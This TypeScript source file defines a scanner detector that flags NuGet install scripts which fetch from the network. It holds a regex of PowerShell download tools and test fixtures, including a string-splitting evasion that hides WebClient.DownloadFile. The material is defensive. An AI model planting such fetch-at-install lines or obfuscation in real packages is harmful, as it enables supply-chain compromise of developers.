import type { Detector } from "../detector.ts";
import type { ReleaseTree, SourceFile } from "../model.ts";
import { disguisedFetch } from "./_powershell.ts";
import { isMember, matchInCode, sight } from "./_sight.ts";

const FETCHES =
  /\b(?:net\.webclient|invoke-webrequest|invoke-restmethod|download(?:file|string|data)|start-bitstransfer|bitsadmin|(?:http)?webrequest\]|httpclient|sockets\.tcpclient|msxml2\.xmlhttp|internetexplorer\.application|resolve-dnsname)|\b(?:curl|wget|iwr|irm)(?:\.exe)?[ \t]{1,4}["'$(\-hf]|certutil[^\n]{0,60}urlcache/i;

export const packageScriptFetches: Detector = {
  id: "package-script-fetches",
  title: "A script that NuGet runs at installation uses the network",
  severity: "high",
  ecosystems: ["nuget"],
  points: 4.6,
  class: "threat",
  group: "install-network",
  why: `\`tools/init.ps1\`, \`install.ps1\` and \`uninstall.ps1\` are run by Visual Studio when a package is installed or its solution is opened. One
that fetches something lets its author decide later what runs there. The campaign of March 2023 with 150,000 downloads did this.

Install scripts add references, open a readme or import a module; tools that download a browser or a driver do it when first used.`,
  *detect(tree) {
    for (const file of installScripts(tree)) {
      const offset = matchInCode(file, FETCHES)?.index ?? disguisedFetch(file);
      if (offset !== undefined)
        yield sight(file, offset, `installing fetches: ${lineOf(file, offset)}`, { phase: "install" });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: { "tools/init.ps1": "(New-Object Net.WebClient).DownloadFile('https://example.invalid/a', 'a')\n" },
      },
      { ecosystem: "nuget", files: { "tools/net45/install.ps1": "iwr -Uri $u -OutFile $f\n" } },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "tools/install.ps1":
            "param($installPath, $toolsPath, $package, $project)\n# see the WebClient docs\n$project.Object.References.Add('System.Net.Http')\n$DTE.ItemOperations.Navigate('https://example.invalid/docs')\n",
        },
      },
      { ecosystem: "nuget", files: { "tools/deploy.ps1": "Invoke-WebRequest https://example.invalid/health\n" } },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "TOOLS/Init.PS1":
            "$c = New-Object ('System.'+'Net.WebClient')\n$c.('Download'+'File').Invoke($u, $f)\n$x='downloadfile'\n",
        },
      },
    ],
  },
};

/** Scripts run at installation, and what lies beside them under names they may load. */
export function* installScripts(tree: ReleaseTree): Iterable<SourceFile> {
  for (const file of tree.files) {
    const own = isMember(file) && /^tools\/(?:[^/]{1,100}\/)?(?:init|install|uninstall)\.ps1$/i.test(file.path);
    if (own || (!isMember(file) && file.phase === "install" && /^tools\//i.test(file.path))) yield file;
  }
}

function lineOf(file: SourceFile, offset: number): string {
  const start = file.text.lastIndexOf("\n", offset) + 1;
  return file.text
    .slice(start, start + 300)
    .split("\n", 1)[0]!
    .trim()
    .slice(0, 160);
}
